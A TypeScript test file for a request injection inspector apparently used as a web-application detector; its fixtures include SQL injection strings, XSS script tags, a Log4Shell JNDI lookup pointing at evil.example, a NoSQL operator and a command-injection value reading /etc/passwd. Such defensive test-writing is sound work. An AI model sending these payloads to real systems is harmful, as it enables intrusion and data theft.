import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createInjectionInspector } from './create-injection-inspector.js';
import { INJECTION_CLASSES } from './injection-class.js';

const inspector = createInjectionInspector();

describe('createInjectionInspector', () => {
  it('names where each hit was found', () => {
    const hits = inspector.inspect({
      path: '/search?q=%27%20OR%201%3D1--&page=2',
      headers: {
        'user-agent': '${jndi:ldap://evil.example/a}',
        cookie: 'sid=abc; pref=<script>alert(1)</script>',
      },
      body: { user: { name: "x' UNION SELECT password FROM users--" } },
    });
    const at = hits.map((h) => `${h.class}@${h.location}`);
    expect(at).toContain('sqli@query.q');
    expect(at).toContain('jndi@header.user-agent');
    expect(at).toContain('xss@cookie.pref');
    expect(at).toContain('sqli@body./user/name');
    expect(hits.every((h) => h.score >= 0.7 && h.score <= 1)).toBe(true);
  });

  it('returns nothing for ordinary requests', () => {
    expect(
      inspector.inspect({
        path: '/api/orders/8c1e5a9e-3b1f-4a51-9d77-0f7a1f9c2b10?include=items&sort=-createdAt',
        headers: {
          'user-agent':
            'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
          accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
          cookie: 'session=eyJpZCI6MX0; theme=dark',
          authorization: 'Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl',
        },
        body: {
          name: "Siobhán O'Brien",
          note: 'Please select a plan that fits; thanks!',
          email: 'a.b@example.com',
        },
      }),
    ).toEqual([]);
  });

  it('inspects query keys, form bodies and XML values', () => {
    expect(
      inspector.inspect({ query: { '<script>alert(1)</script>': 'x' } }).map((h) => h.location),
    ).toContain('query.<script>alert(1)</script>[key]');
    expect(inspector.inspect({ body: 'a=1&b=%27+or+%271%27%3D%271' }).map((h) => h.location)).toContain(
      'body.b',
    );
    const xml = inspector.inspect({ body: '<?xml version="1.0"?><r><a probe="; cat /etc/passwd"/></r>' });
    expect(xml.some((h) => h.class === 'command' && h.decoded.includes('xml'))).toBe(true);
  });

  it('looks only for Log4Shell and CRLF in structured headers', () => {
    expect(inspector.inspect({ headers: { accept: "text/html; q=0.9' OR 1=1--" } })).toEqual([]);
    expect(inspector.inspect({ headers: { accept: '${jndi:ldap://x/a}' } }).map((h) => h.class)).toEqual([
      'jndi',
    ]);
  });

  it('walks JSON carried inside a string value and records the layer', () => {
    const hits = inspector.inspect({ query: { filter: '{"user":{"$ne":null}}' } });
    const hit = hits.find((h) => h.class === 'nosqli');
    expect(hit?.decoded).toContain('json');
  });

  it('honours the class selection', () => {
    const sqlOnly = createInjectionInspector({ classes: ['sqli'] });
    expect(sqlOnly.inspectValue('<script>alert(1)</script>', 'query.q')).toEqual([]);
    expect(sqlOnly.inspectValue("' or 1=1--", 'query.q').map((h) => h.class)).toEqual(['sqli']);
  });

  it.each([
    [{ classes: ['sql'] }, /options.classes contains "sql"/],
    [{ paranoia: 4 }, /options.paranoia must be 1, 2 or 3, got 4/],
    [{ maxInputBytes: 0 }, /options.maxInputBytes must be a positive integer, got 0/],
    [{ maxDecodeDepth: 1.5 }, /options.maxDecodeDepth must be a positive integer/],
  ])('rejects malformed options %j with a TypeError', (options, message) => {
    expect(() => createInjectionInspector(options as never)).toThrow(TypeError);
    expect(() => createInjectionInspector(options as never)).toThrow(message);
  });

  it('stops after maxValues values per request', () => {
    const limited = createInjectionInspector({ maxValues: 2 });
    const hits = limited.inspect({ query: { a: 'plain', b: 'plain', c: "' or 1=1--" } });
    expect(hits).toEqual([]);
  });

  it('inspects the head and tail of a value longer than maxInputBytes', () => {
    const small = createInjectionInspector({ maxInputBytes: 1000 });
    const padding = 'a '.repeat(5000);
    expect(small.inspectValue(`${padding}<script>alert(1)</script>`, 'body./x').length).toBeGreaterThan(0);
    expect(small.inspectValue(`<script>alert(1)</script>${padding}`, 'body./x').length).toBeGreaterThan(0);
  });

  it('exports every class it can report', () => {
    expect(INJECTION_CLASSES).toHaveLength(13);
  });
});

describe('createInjectionInspector (properties)', () => {
  const paranoid = createInjectionInspector({ paranoia: 3 });

  it('never throws and returns well-formed hits for arbitrary strings up to 10k characters', () => {
    const alphabet = fc.constantFrom(
      ...'\'"`;|&$(){}[]<>/\\%.=:-_#*!?@ \n\r\tabcxyzORSELECTunion0123456789'.split(''),
    );
    fc.assert(
      fc.property(
        fc.oneof(fc.string({ maxLength: 10_000 }), fc.string({ unit: alphabet, maxLength: 10_000 })),
        (s) => {
          for (const hit of paranoid.inspectValue(s, 'query.q')) {
            expect(INJECTION_CLASSES).toContain(hit.class);
            expect(hit.score).toBeGreaterThanOrEqual(0.3);
            expect(hit.score).toBeLessThanOrEqual(1);
            expect(hit.evidence.length).toBeLessThanOrEqual(96);
          }
        },
      ),
      { numRuns: 60 },
    );
  });

  it('never throws on arbitrary request shapes', () => {
    fc.assert(
      fc.property(fc.anything(), fc.anything(), fc.anything(), fc.string(), (query, headers, body, path) => {
        paranoid.inspect({ path, query, headers, body } as never);
      }),
      { numRuns: 200 },
    );
  });

  it('handles deeply nested JSON without recursion errors', () => {
    let nested: unknown = "' or 1=1--";
    for (let i = 0; i < 10_000; i++) nested = [nested];
    expect(() => paranoid.inspect({ body: nested })).not.toThrow();
  });
});

describe('createInjectionInspector: cookie names and the character-class prefilter', () => {
  it('inspects cookie names', () => {
    const hits = createInjectionInspector().inspect({ headers: { cookie: '<script>alert(1)</script>=1' } });
    expect(hits.some((h) => h.class === 'xss' && h.location.endsWith('[key]'))).toBe(true);
  });

  it('still finds keyword-only attacks in values without punctuation', () => {
    const at = createInjectionInspector();
    expect(at.inspectValue('1 union select password from users', 'query.q').map((h) => h.class)).toContain(
      'sqli',
    );
    expect(at.inspectValue('IF EXIST secrets CMD', 'query.q').map((h) => h.class)).toContain('command');
    expect(at.inspectValue('ansible all -m shell', 'query.q').map((h) => h.class)).toContain('command');
  });
});
